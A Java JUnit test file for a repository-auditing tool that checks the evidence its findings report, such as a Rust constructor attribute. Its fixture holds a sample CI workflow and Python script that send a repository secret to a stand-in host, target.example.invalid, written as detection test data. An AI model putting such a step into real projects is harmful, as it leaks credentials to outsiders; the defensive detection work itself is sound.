package dev.lazaret.analysis.detect;

import static org.assertj.core.api.Assertions.assertThat;

import dev.lazaret.analysis.audit.AuditOutcome;
import dev.lazaret.analysis.audit.Auditor;
import dev.lazaret.analysis.catalogue.Catalogue;
import dev.lazaret.analysis.corpus.CaseArchive;
import dev.lazaret.analysis.repository.Repository;
import dev.lazaret.analysis.repository.RepositoryOpenResult;
import dev.lazaret.analysis.repository.ScanMonitor;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Verifies that evidence shows the cause of the finding: the constructor's attribute, the address that a program sends
 * to.
 */
class ShownEvidenceTest {
    @TempDir
    private Path folder;

    @Test
    void evidenceOfConstructorIsAttribute() throws IOException {
        assertThat(evidence("SRC-CTOR", """
                -- file Cargo.toml --
                [package]
                name = "a"
                edition = "2021"
                -- file src/lib.rs --
                #[ctor::ctor(unsafe)]
                fn before() {}
                """)).isEqualTo("ctor");
    }

    @Test
    void listsAddressInCodeBeforeAddressInComment() throws IOException {
        assertThat(evidence("TOOL-CI-SECRET", """
                -- file Cargo.toml --
                [package]
                name = "a"
                edition = "2021"
                -- file src/lib.rs --
                -- file .github/workflows/ci.yml --
                on: push
                jobs:
                  send:
                    runs-on: ubuntu-24.04
                    steps:
                      - env:
                          KEY: ${{ secrets.KEY }}
                        run: python3 ci/send.py
                -- file ci/send.py --
                # http://licence.example.invalid/LICENSE
                import os, urllib.request
                key = os.environ["KEY"].encode()
                urllib.request.urlopen("https://target.example.invalid/", data=key)
                """))
                .contains("data=key) https://target.example.invalid/ http://licence");
    }

    private String evidence(String id, String archive) throws IOException {
        Path repository = folder.resolve("repository");
        CaseArchive.parse("inline", archive.getBytes(StandardCharsets.UTF_8)).unpackInto(repository);
        try (Repository opened = ((RepositoryOpenResult.Ready) Repository.open(repository)).repository()) {
            return ((AuditOutcome.Done) new Auditor(Catalogue.load()).audit(opened, ScanMonitor.NONE))
                    .audit().findings().stream()
                            .filter(finding -> finding.id().equals(id))
                            .findFirst()
                            .orElseThrow()
                            .evidence();
        }
    }
}
